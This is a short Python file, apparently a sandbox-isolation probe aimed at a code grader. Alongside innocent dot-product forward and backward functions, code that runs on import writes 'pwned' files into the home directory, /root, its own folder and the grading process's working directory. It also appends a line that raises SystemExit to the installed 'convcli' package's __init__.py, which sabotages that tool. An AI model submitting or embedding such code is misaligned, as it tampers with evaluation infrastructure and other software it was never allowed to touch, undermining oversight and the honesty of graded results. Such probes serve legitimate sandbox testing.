"""Write files everywhere it can think of: its folder, $HOME, the grader's folder, convcli's own code."""
import glob
import os
import sys

import numpy as np

targets = ["pwned.txt", os.path.expanduser("~/pwned.txt"), "/root/pwned.txt"]
try:
    targets.append(os.path.join(os.readlink(f"/proc/{os.getppid()}/cwd"), "pwned.txt"))
except OSError:
    pass
targets += [os.path.join(p, "__init__.py") for entry in sys.path for p in glob.glob(os.path.join(entry, "convcli"))]
targets += [os.path.join(os.path.dirname(os.path.abspath(__file__)), "pwned.txt")]
for target in targets:
    try:
        with open(target, "a") as handle:
            handle.write("\nraise SystemExit('pwned')\n" if target.endswith(".py") else "pwned\n")
        print("wrote", target, flush=True)
    except OSError as exc:
        print("refused", target, type(exc).__name__, flush=True)


def dot_forward(x, w):
    return float(np.sum(x * w))


def dot_backward(x, w, da=1.0):
    return {"x": w * da, "w": x * da}
